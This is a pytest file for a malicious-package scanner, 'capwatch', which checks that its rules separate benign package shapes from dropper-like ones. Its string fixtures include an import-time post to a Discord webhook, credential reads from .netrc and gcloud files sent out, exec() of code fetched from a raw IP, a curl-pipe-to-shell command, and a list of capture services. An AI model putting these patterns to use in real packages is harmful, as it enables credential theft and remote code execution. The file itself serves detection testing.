"""Shapes of popular packages outside the dev corpus that once reached the malicious tier:
each is small code written here, not a copy of the package."""

from __future__ import annotations

from tests.helpers import sdist_bytes

from capwatch.engine import scan_bytes
from capwatch.model import Phase, Severity, Verdict


def _scan(files: dict[str, str], name: str = "shapes"):  # type: ignore[no-untyped-def]
    return scan_bytes(sdist_bytes(files, top=f"{name}-1.0"), f"{name}-1.0.tar.gz")


def test_a_release_helper_running_its_own_setup_py_is_not_a_dropper() -> None:
    setup = (
        "import sys, urllib.request\nfrom subprocess import run\nfrom setuptools import setup\n"
        "def main(argv):\n"
        "    if argv[1:] == ['gen']:\n"
        "        with urllib.request.urlopen('https://example.com/schema.json') as resp:\n"
        "            open('schema.json', 'wb').write(resp.read())\n"
        "    elif argv[1:] == ['release']:\n"
        "        run('python3 setup.py sdist', shell=True)\n"
        "        run('twine upload dist/*', shell=True)\n"
        "    else:\n"
        "        setup(name='shapes', version='1.0')\n"
        "main(sys.argv)\n"
    )
    result = _scan({"setup.py": setup, "shapes/__init__.py": ""})
    fired = [f for f in result.findings if f.rule == "CW103"]
    assert fired and max(f.severity for f in fired) < Severity.CRITICAL
    assert result.verdict is not Verdict.MALICIOUS


def test_setting_an_attribute_of_a_function_at_import_does_not_run_it() -> None:
    package = (
        "import setuptools\nfrom shapes.appimage import bdist_appimage\n"
        "def setup(**attrs):\n"
        "    attrs.setdefault('cmdclass', {}).setdefault('bdist_appimage', bdist_appimage)\n"
        "    return setuptools.setup(**attrs)\n"
        "setup.__doc__ = setuptools.setup.__doc__\n"
    )
    command = (
        "import os, stat\nfrom urllib.request import urlretrieve\nfrom setuptools import Command\n"
        "class bdist_appimage(Command):\n"
        "    def run(self):\n"
        "        urlretrieve('https://example.com/tool.AppImage', 'tool.AppImage')\n"
        "        os.chmod('tool.AppImage', stat.S_IRWXU)\n"
    )
    result = _scan({
        "setup.py": "from setuptools import setup\nsetup(name='shapes', version='1.0')\n",
        "shapes/__init__.py": package,
        "shapes/appimage.py": command,
    })
    assert result.verdict is not Verdict.MALICIOUS
    assert all(f.phase is Phase.RUNTIME for f in result.findings if f.rule == "CW103")


def test_a_table_of_capture_services_is_not_a_destination() -> None:
    """A security tool that warns about request-capture and tunnel services lists them in a
    module-level name read at import; the same module asks a server at import."""
    module = (
        "import re\nimport requests\n"
        "CAPTURE_SERVICES = ['webhook.site', 'requestbin.com', 'ngrok.io', 'pipedream.net']\n"
        "_PATTERN = re.compile('|'.join(re.escape(s) for s in CAPTURE_SERVICES))\n"
        "LATEST = requests.get('https://lintkit.example.org/version', timeout=5).text\n"
        "def flagged(url):\n"
        "    return bool(_PATTERN.search(url))\n"
    )
    result = _scan({"setup.py": "", "shapes/__init__.py": module})
    assert all(f.severity <= Severity.LOW for f in result.findings if f.rule == "CW105")
    assert result.verdict is Verdict.CLEAN
    # one channel in such a name is a destination, as before
    sender = module.replace(
        "['webhook.site', 'requestbin.com', 'ngrok.io', 'pipedream.net']",
        "['https://webhook.site/8f14e45f-ceea-467f-a0e6-0f2b4c1a9d3e']",
    )
    result = _scan({"setup.py": "", "shapes/__init__.py": sender})
    assert any(f.rule == "CW105" and f.severity is Severity.CRITICAL for f in result.findings)


def test_install_instructions_shown_at_import_are_not_run() -> None:
    """A command-line tool keeps a table of manual install commands for its helpers and prints
    the right one; other functions of the module start processes."""
    module = (
        "import subprocess, sys\n"
        "def _manual(command):\n"
        "    return {'kind': 'manual', 'command': command}\n"
        "INSTALLERS = {'uv': [_manual('curl -LsSf https://astral.sh/uv/install.sh | sh')]}\n"
        "def hint(tool):\n"
        "    print(INSTALLERS[tool][0]['command'])\n"
        "def version(tool):\n"
        "    return subprocess.run([tool, '--version'], capture_output=True).stdout\n"
        "hint('uv')\n"
    )
    result = _scan({"setup.py": "", "shapes/__init__.py": module})
    assert not [f for f in result.findings if f.rule == "CW106"]
    # the same command run by the code that holds it is what the rule is for
    runner = module.replace(
        "    print(INSTALLERS[tool][0]['command'])\n",
        "    subprocess.run(INSTALLERS[tool][0]['command'], shell=True)\n",
    )
    result = _scan({"setup.py": "", "shapes/__init__.py": runner})
    assert any(f.rule == "CW106" and f.severity is Severity.CRITICAL for f in result.findings)


def test_a_byte_written_as_a_number_in_inline_code_is_not_decoding() -> None:
    """A test starts an interpreter whose inline code writes binary bytes to its output."""
    test = (
        "import subprocess, sys\n"
        "def test_binary_output():\n"
        "    code = 'import sys; sys.stdout.buffer.write(bytes([255]) * (1024 * 1024))'\n"
        "    process = subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.PIPE)\n"
        "    assert process.wait() == 0\n"
    )
    result = _scan({"setup.py": "", "shapes/__init__.py": "", "tests/test_output.py": test})
    assert not [f for f in result.findings if f.rule == "CW101"]


def test_a_command_registered_at_import_runs_when_the_user_runs_it() -> None:
    """A command-line tool registers its commands with the command group when imported; the
    login command reads the user's ``.netrc`` and asks the server. Registering runs nothing."""
    login = (
        "import netrc, os\nimport requests\n"
        "def login(server):\n"
        "    user, _, password = netrc.netrc(os.path.expanduser('~/.netrc')).authenticators(server)\n"
        "    return requests.post(f'https://{server}/login', auth=(user, password)).ok\n"
    )
    cli = (
        "import click\nfrom shapes.auth import login\n"
        "@click.group()\ndef cli():\n    pass\n"
        "cli.add_command(login)\n"
    )
    files = {"setup.py": "", "shapes/__init__.py": "from shapes import cli\n",
             "shapes/auth.py": login, "shapes/cli.py": cli}
    result = _scan(files)
    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
    # nor does a decorator written out as a call (``@cli.command(name="login")``)
    files["shapes/cli.py"] = cli.replace(
        "cli.add_command(login)\n", "cli.command(name='login')(login)\n"
    )
    result = _scan(files)
    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
    # run at import, the same function is import-time code
    files["shapes/cli.py"] = cli.replace("cli.add_command(login)\n", "login('example.org')\n")
    result = _scan(files)
    assert any(f.rule == "CW107" and f.phase is Phase.IMPORT for f in result.findings)
    # handed to a registry that runs it at the interpreter's exit, it runs too
    files["shapes/cli.py"] = cli.replace(
        "cli.add_command(login)\n", "import atexit\natexit.register(login, 'example.org')\n"
    )
    result = _scan(files)
    assert any(f.rule == "CW107" and f.phase is Phase.IMPORT for f in result.findings)


def test_a_constant_handed_to_a_registering_method_is_still_read() -> None:
    """What is kept for later is not run, but a module-level value named there is read now:
    a webhook kept in a list at import and posted to at import is an import-time endpoint."""
    files = {
        "setup.py": "",
        "shapes/config.py": (
            "HOOK = 'https://discord.com/api/webhooks/112233445566778899/"
            + "Zq7" + "kP2xW9vR4tY8uL3nB6mQ1sD5fG0hJ7aC" * 2 + "'\n"
        ),
        "shapes/__init__.py": (
            "import requests\nfrom shapes import config\n"
            "targets = []\ntargets.append(config.HOOK)\n"
            "requests.post(targets[0], json={'content': 'installed'})\n"
        ),
    }
    result = _scan(files)
    assert any(f.rule == "CW105" and f.phase is Phase.IMPORT for f in result.findings)


def test_foreign_prototypes_and_flag_names_hide_nothing() -> None:
    """A version-control tool declares ctypes prototypes for window functions when imported and
    asks whether the running Python has a console-hiding flag before it runs a command."""
    win32 = (
        "import ctypes\n"
        "_user32 = ctypes.windll.user32\n"
        "_user32.ShowWindow.argtypes = [ctypes.c_void_p, ctypes.c_int]\n"
        "_user32.ShowWindow.restype = ctypes.c_int\n"
    )
    repo = (
        "import subprocess\nfrom shapes import win32\n"
        "def git(args):\n"
        "    extra = {}\n"
        "    if hasattr(subprocess, 'CREATE_NO_WINDOW'):\n"
        "        extra['creationflags'] = getattr(subprocess, 'CREATE_NO_WINDOW')\n"
        "    p = subprocess.Popen(['git', *args], stdout=subprocess.PIPE, **extra)\n"
        "    return p.communicate()[0]\n"
        "VERSION = git(['describe', '--tags'])\n"
    )
    result = _scan({"setup.py": "", "shapes/__init__.py": repo, "shapes/win32.py": win32})
    assert not [f for f in result.findings if f.rule == "CW110"]


def test_a_staging_host_counts_only_for_the_code_that_can_fetch_it() -> None:
    # a raw IP in one function of a long module says nothing of what another function fetches
    # before it runs a named tool; the same host in another method of the class does
    fetch_and_run = (
        "    def clip(self, link, name):\n"
        "        with urllib.request.urlopen(link) as r, open(name, 'wb') as out:\n"
        "            out.write(r.read())\n"
        "        subprocess.run([self.tool(), '-i', name], check=True)\n"
    )
    elsewhere = (
        "import subprocess, urllib.request\n"
        "def transcribe(data):\n"
        "    return urllib.request.urlopen('http://203.0.113.7:8000/t', data=data).read()\n"
        "class Media:\n" + fetch_and_run
    )
    in_class = elsewhere.replace("def transcribe(data):", "class Unrelated:\n  def transcribe(data):")
    in_class += "    def tool(self):\n        return 'http://203.0.113.7:8000/tool'\n"

    def cw103(source: str) -> list[Severity]:
        result = _scan({"shapes/__init__.py": "", "shapes/media.py": source})
        return [f.severity for f in result.findings if f.rule == "CW103"]

    assert cw103(elsewhere) and max(cw103(elsewhere)) < Severity.CRITICAL
    assert Severity.CRITICAL in cw103(in_class)


def test_a_wheel_script_in_a_data_folder_runs_only_if_a_module_imports_it() -> None:
    """A benchmark package ships the solution scripts of its exercises in folders without
    ``__init__.py``, to copy into containers; one reads a socket and evaluates what it sends.
    Importing the package runs none of them; a module of the package that imports one does."""
    from tests.helpers import wheel_bytes

    solve = "import socket\nconn = socket.create_connection(('127.0.0.1', 1337))\n" \
        "print(eval(conn.recv(4096).decode()))\n"
    files = {"shapes/__init__.py": "", "shapes/tasks/web/solution/solve.py": solve}
    result = scan_bytes(wheel_bytes(files, "shapes", "1.0"), "shapes-1.0-py3-none-any.whl")
    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
    files["shapes/__init__.py"] = "from shapes.tasks.web.solution import solve\n"
    result = scan_bytes(wheel_bytes(files, "shapes", "1.0"), "shapes-1.0-py3-none-any.whl")
    assert any(f.phase is Phase.IMPORT and f.severity >= Severity.HIGH for f in result.findings)


def test_a_function_re_exported_under_a_name_runs_when_that_name_is_called() -> None:
    """A client library re-exports its entry point (``start = runs.start``); the entry point
    asks the cloud's metadata server for credentials. Binding it to a name runs nothing; a
    module that calls the name at import does."""
    client = (
        "import json, os, urllib.request\n"
        "def start(project):\n"
        "    token = json.load(open(os.path.expanduser('~/.config/gcloud/credentials.db')))\n"
        "    req = urllib.request.Request('https://api.example.com/runs', headers=token)\n"
        "    return urllib.request.urlopen(req).read()\n"
    )
    files = {"setup.py": "", "shapes/runs.py": client,
             "shapes/api.py": "from shapes import runs\nstart = runs.start\n",
             "shapes/__init__.py": "from shapes import api\n"}
    result = _scan(files)
    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
    files["shapes/__init__.py"] = "from shapes import api\napi.start('demo')\n"
    result = _scan(files)
    assert any(f.rule == "CW107" and f.phase is Phase.IMPORT for f in result.findings)


def test_a_package_manager_running_the_setup_scripts_it_downloads_is_a_question() -> None:
    """A shell's own package manager downloads the setup scripts of what its user installs and
    runs them: code fetched and executed by design, when the user asks. A question for a
    reviewer (high); from a raw address, or at import, it is malware (critical)."""
    manager = (
        "import requests\n"
        "def repository(name, script):\n"
        "    return f'https://packages.example.org/{name}/{script}'\n"
        "def install(package):\n"
        "    for script in package.setup_scripts:\n"
        "        res = requests.get(repository(package.name, script))\n"
        "        if res.status_code == 200:\n"
        "            exec(res.content.decode())\n"
    )
    files = {"setup.py": "", "shapes/__init__.py": "", "shapes/manager.py": manager}
    result = _scan(files)
    (fired,) = [f for f in result.findings if f.rule == "CW102"]
    assert (fired.severity, fired.phase) == (Severity.HIGH, Phase.RUNTIME)
    assert result.verdict is Verdict.SUSPICIOUS
    files["shapes/manager.py"] = manager.replace("https://packages.example.org", "http://203.0.113.7")
    assert _scan(files).verdict is Verdict.MALICIOUS
    files["shapes/manager.py"] = manager
    files["shapes/__init__.py"] = "from shapes import manager\nmanager.install(manager)\n"
    assert _scan(files).verdict is Verdict.MALICIOUS


def test_a_class_imported_into_a_table_runs_where_the_table_is_read() -> None:
    """A vision library keeps its trackers in a module-level table (``TRACKERS = {"sort":
    SortTracker}``, the class imported from another module) and makes one when prediction
    starts; the tracker's constructor downloads its model's weights with ``curl``. Listing the
    class makes nothing: the download runs when the user's code reads the table. A module that
    reads the table at import makes the tracker then."""
    tracker = (
        "import subprocess\n"
        "class SortTracker:\n"
        "    def __init__(self, weights='reid.pt'):\n"
        "        subprocess.run(['curl', '-L', '-o', weights, 'https://models.example.org/reid.pt'])\n"
    )
    track = (
        "from shapes.sort import SortTracker\n"
        "TRACKERS = {\n    'sort': SortTracker,\n}\n"
        "def on_predict_start(kind):\n"
        "    if kind not in TRACKERS:\n"
        "        raise ValueError(f'only {sorted(TRACKERS)} are supported')\n"
        "    return TRACKERS[kind]()\n"
    )
    files = {"setup.py": "", "shapes/sort.py": tracker, "shapes/track.py": track,
             "shapes/__init__.py": "from shapes.track import on_predict_start\n"}
    result = _scan(files)
    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
    files["shapes/track.py"] = track + "DEFAULT = TRACKERS['sort']()\n"
    result = _scan(files)
    assert any(f.rule == "CW103" and f.phase is Phase.IMPORT for f in result.findings)
